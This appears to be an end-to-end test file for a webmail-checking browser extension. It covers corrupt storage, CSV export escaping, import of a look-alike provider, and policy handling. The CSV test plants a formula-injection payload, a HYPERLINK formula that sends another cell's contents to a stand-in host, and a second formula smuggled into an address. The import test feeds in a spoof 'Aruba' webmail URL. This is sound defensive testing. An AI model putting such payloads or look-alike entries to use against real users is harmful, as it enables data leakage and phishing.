// Outside data that tries to break a screen or mislead: a policy hiding everything, corrupt stored data, hostile
// names in an export, a look-alike provider in an imported file.
import { readFileSync } from 'node:fs';
import { describe, expect } from 'vitest';
import {
  type Browser,
  launch,
  openPopup,
  resetExtension,
  settingsSettled,
  setUserSettings,
} from '../../tools/chromium';
import { canWritePolicies, removePolicy, writePolicy } from '../../tools/policy-file';
import { e2e } from '../support/fixture';
import { ui } from '../support/pages';

let browser: Browser;
e2e.beforeAll(async ({ browser: started }) => {
  browser = started;
});
e2e.afterAll(() => {
  removePolicy();
});
e2e.beforeEach(async () => {
  await resetExtension(browser);
});

/** Writes raw values into the extension's storage, as another version or a damaged profile could leave them. */
async function store(area: 'local' | 'session', values: Record<string, unknown>) {
  const worker = browser.context.serviceWorkers()[0] ?? browser.worker;
  await worker.evaluate(
    // biome-ignore lint/suspicious/noExplicitAny: the extension API inside the service worker
    async ([where, raw]) => (globalThis as any).chrome.storage[where as string].set(raw),
    [area, values] as const,
  );
}

const entry = (at: number, over: Record<string, unknown> = {}) => ({
  at,
  providerId: 'aruba',
  providerName: 'Aruba',
  webmailUrl: 'https://webmail.aruba.it',
  verdict: 'mail-service',
  reason: 'inbox-failed',
  answers: { outcome: 'inbox-failed' },
  results: null,
  ...over,
});

describe('corrupt stored data', () => {
  e2e('a history entry dated 1e20 is dropped; the rest is listed and can be cleared', async () => {
    await store('local', { history: [entry(1e20), entry(Date.parse('2026-11-25T08:00:00Z'))] });
    const popup = await openPopup(browser);
    await ui(popup).action('history').click();
    await expect.poll(() => popup.locator('[data-history-entry]').count()).toBe(1);
    expect(await ui(popup).action('clear-history').isVisible()).toBe(true);
  });

  e2e('a wizard state opened at 1e300 starts afresh instead of a blank verdict', async () => {
    await store('session', { wizard: { providerId: 'aruba', openedAt: 1e300, answers: { outcome: 'works' } } });
    const popup = await openPopup(browser);
    expect(await ui(popup).action('open-webmail').isVisible()).toBe(true);
  });
});

describe('hostile names', () => {
  e2e('the CSV export neutralises formulas in names and typed addresses', async () => {
    await store('local', {
      history: [
        entry(Date.parse('2026-11-25T08:00:00Z'), {
          providerName: '=HYPERLINK("https://x.example/?"&G2,"Open")',
          address: '=1+2@gmail.com',
        }),
      ],
    });
    const popup = await openPopup(browser);
    await ui(popup).action('history').click();
    const [csv] = await Promise.all([popup.waitForEvent('download'), ui(popup).action('export-csv').click()]);
    const text = readFileSync((await csv.path()) as string, 'utf8');
    const cells = text.split('\r\n')[1] ?? '';
    expect(cells).toContain(`"'=HYPERLINK(""https://x.example/?""&G2,""Open"")"`);
    expect(cells).toContain(`'=1+2@gmail.com`);
    expect(cells).not.toMatch(/(^|,)=/);
  });

  e2e('an imported look-alike "Aruba" is refused; what the file would change is shown before saving', async () => {
    const options = await browser.context.newPage();
    await options.goto(`chrome-extension://${browser.extensionId}/options.html`);
    await settingsSettled(options);
    await ui(options)
      .action('import-settings')
      .setInputFiles({
        name: 'settings.json',
        mimeType: 'application/json',
        buffer: Buffer.from(
          JSON.stringify({
            hiddenProviders: ['aruba'],
            customProviders: [
              { id: 'fake-aruba', name: 'Aruba', webmailUrl: 'https://webmail-aruba.example/' },
              { id: 'studio', name: 'Posta Studio', webmailUrl: 'https://posta.studio.example/' },
            ],
          }),
        ),
      });
    await options.locator('[data-import-changes]').waitFor();
    expect(await options.locator('[data-import-changes] li').allTextContents()).toEqual([
      'Your own providers: Posta Studio (posta.studio.example)',
      // Every value the file would change, not just the section's name.
      'Providers to hide from the list: aruba',
    ]);
    expect(await options.locator('[data-import-errors] li').allTextContents()).toEqual([
      'customProviders.0.name: This is the name of a provider in the list: give yours another name, so that nobody mistakes one for the other.',
    ]);
  });

  e2e('a custom provider shows its webmail host in the picker', async () => {
    await setUserSettings(browser, {
      customProviders: [{ id: 'studio', name: 'Posta Studio', webmailUrl: 'https://posta.studio.example/' }],
    });
    const popup = await openPopup(browser);
    await expect.poll(() => ui(popup).providerHost('studio').textContent()).toBe('posta.studio.example');
    expect(await ui(popup).providerHost('aruba').count()).toBe(0);
  });
});

describe.skipIf(!canWritePolicies())('a policy hiding every provider', () => {
  e2e(
    'the popup still lists them all (a policy the user cannot undo must not leave an empty popup)',
    async ({ web, own }) => {
      const { builtInProviders } = await import('../../core/catalogue/built-in');
      writePolicy({ hiddenProviders: builtInProviders.map((p) => p.id) });
      const managed = await own(launch({ port: web.port }));
      try {
        const popup = await openPopup(managed);
        await settingsSettled(popup);
        expect(await ui(popup).provider().count()).toBe(builtInProviders.length);
      } finally {
        await managed.close();
        removePolicy();
      }
    },
  );
});
